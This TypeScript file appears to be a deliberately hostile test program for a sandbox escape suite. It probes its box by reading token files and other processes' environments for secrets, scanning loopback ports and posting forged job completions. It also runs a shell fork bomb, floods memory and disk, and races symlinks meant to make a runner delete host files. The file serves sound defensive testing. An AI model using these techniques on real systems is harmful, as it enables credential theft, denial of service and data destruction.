// A hostile runnable for the escape suite (escape.e2e.test.ts): a player or a game that tries to
// get out of its box, and reports each attempt on its log as one line —
//   PROBE <name> blocked|ESCAPED <detail>
// — so that the suite asserts on what it managed, not on its silence. The targets (the data
// directory, the runner's pid, the server's port, …) are given to it in HOSTILE_TARGETS, as a
// competitor who had read the server's code would know them; CANARY values are what it hunts.
// HOSTILE_MODE picks what it does after probing: play (connect and idle), break a limit, or
// leave marks in every place it may write (mark) and look for any other program's (find).
import { execFileSync, spawn } from "node:child_process";
import {
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import { connect } from "node:net";

interface Targets {
  dataDir: string;
  tokenFile: string;
  runnerPids: number[];
  otherBundle: string;
  ownBundleOnHost: string;
  serverPort: number;
  hostAddresses: string[];
  canaries: string[];
  allowedPorts: number[];
  /** A host folder of the runner's whose files must survive whatever this program plants. */
  hostCanaryDir?: string;
  /** Ids of the job, its episode, coworld, users and policies: none may name the box's mounts. */
  identifiers?: string[];
}

const targets = JSON.parse(process.env.HOSTILE_TARGETS ?? "{}") as Targets;
// The ports this runnable is meant to reach: the game's, its own artifact upload.
for (const name of ["COWORLD_PLAYER_WS_URL", "COWORLD_PLAYER_ARTIFACT_UPLOAD_URL"]) {
  const value = process.env[name];
  if (value !== undefined) targets.allowedPorts.push(Number(new URL(value).port));
}
const role = process.env.COGAME_PORT === undefined ? "player" : "game";

function report(name: string, escaped: boolean, detail: string): void {
  // Never print a canary itself: the suite looks for them in logs too.
  let text = detail;
  for (const canary of targets.canaries) text = text.split(canary).join("<canary>");
  console.log(`PROBE ${name} ${escaped ? "ESCAPED" : "blocked"} ${text.slice(0, 200)}`);
}

function tryRead(name: string, path: string): void {
  try {
    const text = readFileSync(path, "utf8");
    const found = targets.canaries.some((c) => text.includes(c));
    report(name, found, `read ${path} (${text.length} bytes${found ? ", canary" : ""})`);
  } catch (error) {
    report(name, false, `${path}: ${(error as NodeJS.ErrnoException).code ?? "error"}`);
  }
}

function tryWrite(name: string, path: string): void {
  try {
    writeFileSync(path, "pwned");
    report(name, true, `wrote ${path}`);
  } catch (error) {
    report(name, false, `${path}: ${(error as NodeJS.ErrnoException).code ?? "error"}`);
  }
}

function tryConnect(host: string, port: number, timeoutMs = 1_000): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect({ host, port });
    const done = (outcome: string) => {
      socket.destroy();
      resolve(outcome);
    };
    socket.setTimeout(timeoutMs, () => done("timeout"));
    // Scanning loopback, a socket sometimes connects to itself (its own ephemeral port).
    socket.once("connect", () => done(socket.localPort === port ? "self" : "open"));
    socket.once("error", (error: NodeJS.ErrnoException) => done(error.code ?? "error"));
  });
}

async function probe(): Promise<void> {
  // Files of the host: the data directory, the runner's token, other bundles.
  for (const name of ["first-admin.txt", "secret.key", "gauntlet.db"])
    tryRead(`read-data-${name}`, `${targets.dataDir}/${name}`);
  tryRead("read-token-file", targets.tokenFile);
  tryRead("read-other-bundle", `${targets.otherBundle}/secret.txt`);
  for (const pid of targets.runnerPids)
    tryRead(`read-runner-environ-${pid}`, `/proc/${pid}/environ`);
  // Every process this one can see, and its environment: another seat's secrets would be here.
  let seen = 0;
  let found = false;
  for (const entry of readdirSync("/proc").filter((e) => /^\d+$/.test(e))) {
    seen += 1;
    try {
      let text = readFileSync(`/proc/${entry}/environ`, "utf8");
      // Its own environment (the sandbox's first process has a copy) is no find.
      for (const [key, value] of Object.entries(process.env))
        text = text.split(`${key}=${value ?? ""}`).join("");
      if (targets.canaries.some((c) => text.includes(c))) found = true;
    } catch {
      // Not ours to read.
    }
  }
  report("read-other-environ", found, `${seen} processes visible`);
  // Writing: into its own bundle (here and by its host path) and into another's.
  tryWrite("write-own-bundle", `${process.cwd()}/pwned.txt`);
  tryWrite("write-own-bundle-host-path", `${targets.ownBundleOnHost}/pwned.txt`);
  tryWrite("write-other-bundle", `${targets.otherBundle}/pwned.txt`);
  // The game's socket directory, bound into every seat's sandbox: a seat that could change it
  // would send the other seats elsewhere.
  if (role === "player") {
    tryWrite("write-game-socket-dir", "/run/gauntlet/game/pwned.txt");
    try {
      renameSync("/run/gauntlet/game/game.sock", "/run/gauntlet/game/moved.sock");
      report("move-game-socket", true, "moved /run/gauntlet/game/game.sock");
    } catch (error) {
      report("move-game-socket", false, (error as NodeJS.ErrnoException).code ?? "error");
    }
  }
  // The network: the server, every loopback port, the machine's other addresses.
  const server = await tryConnect("127.0.0.1", targets.serverPort);
  report("connect-server", server === "open", `127.0.0.1:${targets.serverPort}: ${server}`);
  const open: number[] = [];
  const ports = Array.from({ length: 65_535 }, (_, i) => i + 1);
  for (let i = 0; i < ports.length; i += 500) {
    const batch = ports.slice(i, i + 500);
    const outcomes = await Promise.all(batch.map((p) => tryConnect("127.0.0.1", p, 500)));
    outcomes.forEach((outcome, j) => {
      const port = batch[j];
      if (outcome === "open" && port !== undefined && !targets.allowedPorts.includes(port))
        open.push(port);
    });
  }
  report("connect-loopback-scan", open.length > 0, `open besides its own: [${open.join(",")}]`);
  for (const address of targets.hostAddresses) {
    const outcome = await tryConnect(address, targets.serverPort);
    report(`connect-host-${address}`, outcome === "open", `${address}: ${outcome}`);
  }
  // A completion for its own job, with every credential it could find.
  const complete = await fetch(`http://127.0.0.1:${targets.serverPort}/v2/runner/jobs/x/complete`, {
    method: "POST",
    headers: { authorization: `Bearer ${process.env.GAUNTLET_TOKEN ?? "none"}` },
    body: "{}",
    signal: AbortSignal.timeout(2_000),
  }).then(
    (res) => `status ${res.status}`,
    (error: Error) =>
      `failed (${(error.cause as { code?: string } | undefined)?.code ?? error.name})`,
  );
  report("post-completion", complete.startsWith("status"), complete);
  // Privileges: who it is and what it may do.
  const status = readFileSync("/proc/self/status", "utf8");
  const capEff = /CapEff:\s*([0-9a-f]+)/.exec(status)?.[1] ?? "?";
  report("capabilities", !/^0+$/.test(capEff), `uid ${process.getuid?.()} CapEff ${capEff}`);
  const noNewPrivs = /NoNewPrivs:\s*(\d)/.exec(status)?.[1];
  report("no-new-privs", noNewPrivs !== "1", `NoNewPrivs ${noNewPrivs ?? "?"}`);
  // System calls the sandbox's seccomp filter refuses: each has a tool in /usr that makes it.
  // Without the filter personality(ADDR_NO_RANDOMIZE) succeeds and a user namespace fails
  // with ENOSPC (bubblewrap's --disable-userns); with it, both get EPERM.
  const machine = process.arch === "arm64" ? "aarch64" : "x86_64";
  trySyscall("seccomp-personality", "setarch", [machine, "-R", "/bin/true"]);
  trySyscall("seccomp-unshare", "unshare", ["-U", "/bin/true"]);
  report(
    "host-root-view",
    readdirSync("/").includes("work"),
    `/ holds ${readdirSync("/").join(",")}`,
  );
  // The box's own root and /dev: tmpfs bubblewrap makes, of no size, written without a bound.
  for (const path of ["/pwned", "/dev/pwned"]) {
    try {
      writeFileSync(path, "pwned");
      report(`write-box${path.replace("/pwned", "") || "-root"}`, true, `wrote ${path}`);
    } catch (error) {
      report(
        `write-box${path.replace("/pwned", "") || "-root"}`,
        false,
        `${path}: ${(error as NodeJS.ErrnoException).code ?? "error"}`,
      );
    }
  }
  // Where the runner keeps things on the host: every command line in the box (the sandbox's
  // first process is bubblewrap's, with its arguments) must name none of its paths.
  let named = "";
  for (const entry of readdirSync("/proc").filter((e) => /^\d+$/.test(e))) {
    try {
      const line = readFileSync(`/proc/${entry}/cmdline`, "utf8").split("\0").join(" ");
      if (line.includes(targets.ownBundleOnHost)) named = `/proc/${entry}/cmdline: ${line}`;
    } catch {
      // Gone meanwhile.
    }
  }
  report("host-paths-in-cmdline", named !== "", named || "no host path on any command line");
  // A bind mount's host path shows in mountinfo (bubblewrap cannot hide it): it must carry no
  // id of the job, its episode, its coworld, a user or a policy, and no token.
  const mountinfo = readFileSync("/proc/self/mountinfo", "utf8");
  const ids = [...(targets.identifiers ?? []), ...targets.canaries].filter((id) =>
    mountinfo.includes(id),
  );
  report(
    "host-ids-in-mountinfo",
    ids.length > 0,
    ids.length > 0 ? `names ${ids.join(",")}` : `none of ${targets.identifiers?.length ?? 0} ids`,
  );
}

/** Mount points this program may write, bar its own /tmp and /dev (fresh in every box). */
function writableMounts(): string[] {
  return readFileSync("/proc/self/mountinfo", "utf8")
    .split("\n")
    .map((line) => line.split(" "))
    .filter((fields) => (fields[5] ?? "").split(",").includes("rw"))
    .map((fields) => fields[4] ?? "")
    .filter((point) => !/^\/(proc|dev|tmp)(\/|$)/.test(point) && point !== "")
    .filter((point) => {
      try {
        writeFileSync(`${point}/.probe`, "");
        rmSync(`${point}/.probe`);
        return true;
      } catch {
        return false;
      }
    });
}

const MARK = "gauntlet-mark-";

/** Leaves a mark in every place it may write, for a later program (or episode) to find. */
function leaveMarks(): void {
  const places = writableMounts();
  // A folder of plain files, as Node's compile cache is laid out: a first run's cache holding
  // it is kept.
  for (const place of places) {
    mkdirSync(`${place}/${MARK}${role}`);
    writeFileSync(`${place}/${MARK}${role}/note`, "left here");
  }
  console.log(`MARKED ${places.join(",") || "nowhere"}`);
}

/** Looks for another program's mark in every place it sees: a place two programs share. */
function findMarks(): void {
  const found: string[] = [];
  const walk = (dir: string, depth: number) => {
    let entries: string[];
    try {
      entries = readdirSync(dir);
    } catch {
      return;
    }
    for (const name of entries) {
      const path = `${dir === "/" ? "" : dir}/${name}`;
      if (name.startsWith(MARK)) found.push(path);
      else if (depth < 3 && !/^\/(proc|sys|usr|dev)$/.test(path)) walk(path, depth + 1);
    }
  };
  walk("/", 0);
  report("shared-writable-state", found.length > 0, `marks found: [${found.join(",")}]`);
}

/**
 * Plants links to a host folder in every place it may write, swapping folders for links as fast
 * as it can while making those places too large, so that a runner that removes or measures
 * them while it runs (or after) and follows a link deletes the host's files.
 */
async function plantLinks(untilMs: number): Promise<void> {
  const target = targets.hostCanaryDir ?? "/nonexistent";
  const places = writableMounts();
  console.log(`PLANTING in ${places.join(",") || "nowhere"}`);
  const big = Buffer.alloc(1024 * 1024, 1);
  // A player goes past every quota of a place (a compile cache's used to be 64 MiB), in files
  // under the size limit; the game stays under the episode directory's, so that it plays on.
  const mib = role === "game" ? 8 : 72;
  for (const place of places)
    for (let i = 0; i < mib; i += 1) {
      try {
        writeFileSync(`${place}/big-${i}`, big);
      } catch {
        break;
      }
    }
  for (let round = 0; performance.now() < untilMs; round += 1) {
    for (const place of places)
      for (let i = 0; i < 20; i += 1) {
        const dir = `${place}/d${i}`;
        try {
          if (round % 2 === 0) {
            rmSync(dir, { recursive: true, force: true });
            mkdirSync(`${dir}/inner`, { recursive: true });
            writeFileSync(`${dir}/inner/file`, "x");
          } else {
            rmSync(dir, { recursive: true, force: true });
            symlinkSync(target, dir);
          }
        } catch {
          // Its place was taken from it: go on with the rest.
        }
      }
    await new Promise((resolve) => setImmediate(resolve));
  }
}

/** Runs a tool that makes one system call; blocked only when that call got EPERM. */
function trySyscall(name: string, tool: string, args: string[]): void {
  try {
    execFileSync(tool, args, { stdio: ["ignore", "ignore", "pipe"] });
    report(name, true, `${tool} ${args.join(" ")} succeeded`);
  } catch (error) {
    const stderr = String((error as { stderr?: Buffer }).stderr ?? "").trim();
    report(name, !stderr.includes("Operation not permitted"), `${tool}: ${stderr}`);
  }
}

/** Fills /tmp until the sandbox says no; escaped if more than the cap went in. */
function fillScratch(capBytes: number): void {
  const chunk = Buffer.alloc(1024 * 1024, 1);
  let written = 0;
  try {
    for (let i = 0; written <= capBytes * 2; i += 1) {
      writeFileSync(`/tmp/fill-${i}`, chunk);
      written += chunk.length;
    }
  } catch (error) {
    report(
      "fill-scratch",
      written > capBytes,
      `${written} bytes, then ${(error as NodeJS.ErrnoException).code ?? "error"}`,
    );
    return;
  }
  report("fill-scratch", true, `${written} bytes written`);
}

async function breakLimit(mode: string): Promise<void> {
  console.log(`LIMIT ${mode} starting`);
  if (mode === "forkbomb") {
    // Processes that each start more, as fast as they can.
    const bomb = "while :; do sleep 30 & done";
    for (let i = 0; i < 4; i += 1) spawn("/bin/sh", ["-c", bomb], { stdio: "ignore" });
    await new Promise((resolve) => setTimeout(resolve, 60_000));
  }
  if (mode === "memory") {
    const hoard: Buffer[] = [];
    for (;;) {
      hoard.push(Buffer.alloc(16 * 1024 * 1024, 7));
      await new Promise((resolve) => setImmediate(resolve));
    }
  }
  if (mode === "spin") for (;;) Math.sqrt(Math.random());
  if (mode === "sleep") await new Promise((resolve) => setTimeout(resolve, 600_000));
  if (mode === "fill") {
    fillScratch(Number(process.env.HOSTILE_SCRATCH_BYTES ?? 0));
    execFileSync("/bin/true");
  }
}

if (process.env.HOSTILE_SKIP_PROBES !== "1") await probe();
console.log("PROBES DONE");
const given = process.env.HOSTILE_MODE ?? "play";
if (given === "mark") leaveMarks();
if (given === "find") findMarks();
if (given === "links") await plantLinks(performance.now() + 3_000);
// Whatever it did first, it then plays (a player) or runs its game.
const mode = ["mark", "find", "links"].includes(given) ? "play" : given;
if (role === "game" && mode === "sockfill") {
  // Fills the socket directory, which only the game's socket belongs in, with files under the
  // file size limit; then plays on as if nothing happened.
  console.log("LIMIT sockfill starting");
  for (let i = 0; i < 8; i += 1)
    writeFileSync(`/run/gauntlet/net/fill-${i}`, Buffer.alloc(512 * 1024, 1));
  await new Promise((resolve) => setTimeout(resolve, 3_000));
}
if (role === "game" && mode === "inodes") {
  // Empty files by the thousand: no bytes, every one an inode of the runner's disk.
  console.log("LIMIT inodes starting");
  for (let i = 0; i < 20_000; i += 1)
    writeFileSync(new URL(`empty-${i}`, process.env.COGAME_RESULTS_URI), "");
  await new Promise((resolve) => setTimeout(resolve, 3_000));
}
if (role === "game" && mode === "flood") {
  // Fills the episode directory (on the runner's disk) with files under the file size limit.
  console.log("LIMIT flood starting");
  const chunk = Buffer.alloc(1024 * 1024, 1);
  for (let i = 0; ; i += 1) {
    writeFileSync(new URL(`flood-${i}`, process.env.COGAME_RESULTS_URI), chunk);
    await new Promise((resolve) => setImmediate(resolve));
  }
} else if (role === "game") {
  // (also after sockfill and inodes: a game that otherwise behaves)
  // A game that answers /healthz, probes, and writes valid results with a score it likes.
  const port = Number(process.env.COGAME_PORT);
  const http = createServer((req, res) => {
    res.writeHead(req.url === "/healthz" ? 200 : 404);
    res.end();
  });
  http.listen(port, process.env.COGAME_HOST);
  // Players that plant or look around get the time to.
  const linger = { links: 5_000, find: 3_000, mark: 1_000 }[given] ?? 300;
  await new Promise((resolve) => setTimeout(resolve, linger));
  const results = new URL(process.env.COGAME_RESULTS_URI ?? "file:///nonexistent");
  writeFileSync(results, JSON.stringify({ scores: [1, 0], winner_slot: 0, turns: 1, seed: 1 }));
  http.close();
} else if (mode === "play") {
  // Seated and idle: the game plays on without moves from this seat.
  const socket = new WebSocket(process.env.COWORLD_PLAYER_WS_URL ?? "");
  socket.addEventListener("close", () => process.exit(0));
  socket.addEventListener("error", () => process.exit(0));
} else await breakLimit(mode);
